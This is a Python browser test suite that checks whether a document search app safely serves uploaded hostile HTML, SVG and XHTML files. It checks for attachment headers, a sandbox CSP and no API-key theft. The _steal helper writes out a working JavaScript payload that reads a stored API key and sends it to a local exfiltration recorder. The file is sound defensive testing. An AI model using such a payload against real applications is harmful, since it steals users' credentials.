"""Hostile originals in real Chromium: an uploaded HTML page, an SVG and an XHTML file that try to
steal the UI's API key must never run in the app's origin (SECURITY.md, "Stored originals")."""

from __future__ import annotations

import contextlib
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest

from tests.api.server import upload
from tests.browser.conftest import UI_KEY, UiDeployment

pytestmark = pytest.mark.browser


class _Exfil(BaseHTTPRequestHandler):
    """Where a hostile page would send what it stole: every request it receives is recorded."""

    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Exfil.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def exfil() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Exfil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _steal(exfil: str) -> str:
    # reads the key, proves an authenticated call works, and reports both to the exfil server
    return (
        "var k = null; try { k = localStorage.getItem('vlsearch.apiKey'); } catch (e) { k = 'blocked'; }"
        f"new Image().src = '{exfil}/ran?k=' + encodeURIComponent(k);"
        "fetch('/v1/documents', {headers: {'X-API-Key': k}}).then(function (r) {"
        f"  new Image().src = '{exfil}/api?status=' + r.status; }});"
        "document.title = 'pwned ' + k;"
    )


@pytest.fixture(scope="module")
def hostile_docs(ui_deployment: UiDeployment, exfil: str, tmp_path_factory: pytest.TempPathFactory) -> dict:
    folder = tmp_path_factory.mktemp("hostile-originals")
    script = _steal(exfil)
    files = {
        # sniffed as html: an attachment now
        "invoice.html": f"<!doctype html><html><body><h1>Invoice</h1><script>{script}</script></body></html>",
        # an SVG behind a comment sniffs as text, which the old server sent as image/svg+xml
        # because of its name (a live SVG document with scripts)
        "diagram.svg": "<!-- Wiring diagram notes -->"
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>\n",
        # XHTML (sniffed as html: an attachment now) that the old server sent as application/xhtml+xml
        "page.xhtml": "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body>"
        f"<p>Quarterly page</p><script>//<![CDATA[\n{script}\n//]]></script></body></html>",
    }
    paths = []
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
        paths.append(folder / name)
    with ui_deployment.server.client(UI_KEY) as client:
        job = upload(client, paths)
    assert [r["status"] for r in job["results"]] == ["ingested"] * 3, job
    return {r["name"]: r["doc_id"] for r in job["results"]}


@pytest.mark.parametrize("name", ["invoice.html", "diagram.svg", "page.xhtml"])
def test_hostile_originals_cannot_read_the_key_or_call_the_api(
    page, ui_deployment: UiDeployment, hostile_docs: dict, name: str
) -> None:
    from playwright.sync_api import Error as PlaywrightError

    _Exfil.hits.clear()
    page.goto("/documents")
    page.fill("#filter-q", name)
    page.wait_for_selector(f"tr[data-doc-id='{hostile_docs[name]}'] a")
    with page.context.expect_page() as opened:
        page.click(f"tr[data-doc-id='{hostile_docs[name]}'] a")
    popup = opened.value
    # an attachment: Chromium downloads it and closes the window it opened for it
    with contextlib.suppress(PlaywrightError):
        popup.wait_for_load_state()
    time.sleep(1.5)  # room for the hostile script's requests, had it run
    assert _Exfil.hits == [], f"the hostile {name} ran with access: {_Exfil.hits}"
    if popup.is_closed():
        assert name != "diagram.svg"  # the pages that sniff as HTML are attachments; text is shown
        return
    assert "/v1/originals/" in popup.url, popup.url
    # shown inline, as text, in an opaque origin that cannot reach the key
    assert "pwned" not in popup.title()
    seen = popup.evaluate(
        "() => { try { return localStorage.getItem('vlsearch.apiKey'); } catch (e) { return e.name; } }"
    )
    assert seen == "SecurityError"
    popup.close()


def test_originals_are_served_as_sandboxed_passive_types_or_attachments(
    ui_deployment: UiDeployment, hostile_docs: dict
) -> None:
    with ui_deployment.server.client(UI_KEY) as client:
        html = client.get(f"/v1/documents/{hostile_docs['invoice.html']}/original")
        svg = client.get(f"/v1/documents/{hostile_docs['diagram.svg']}/original")
        link = client.post(f"/v1/documents/{hostile_docs['diagram.svg']}/original/link").json()
    assert html.headers["content-disposition"].startswith("attachment")
    assert html.headers["content-type"] == "application/octet-stream"
    assert svg.headers["content-type"] == "text/plain; charset=utf-8"  # its content, not its name
    for resp in (html, svg):
        assert resp.headers["content-security-policy"].startswith("sandbox")
        assert resp.headers["x-content-type-options"] == "nosniff"
    with ui_deployment.server.client() as anonymous:  # a link needs no key, and only until it expires
        assert anonymous.get(link["url"]).text == svg.text
        forged = link["url"][:-3] + ("AAA" if not link["url"].endswith("AAA") else "BBB")
        assert anonymous.get(forged).status_code == 404


def test_ui_pages_run_under_the_strict_csp_without_violations(page, ui_deployment: UiDeployment) -> None:
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    for path, ready in (("/", "button.model-btn"), ("/documents", "#docs tr"), ("/docs", ".docs-op")):
        resp = page.goto(path)
        assert resp is not None and "script-src 'self'" in resp.headers["content-security-policy"]
        page.wait_for_selector(ready)
    assert violations == []
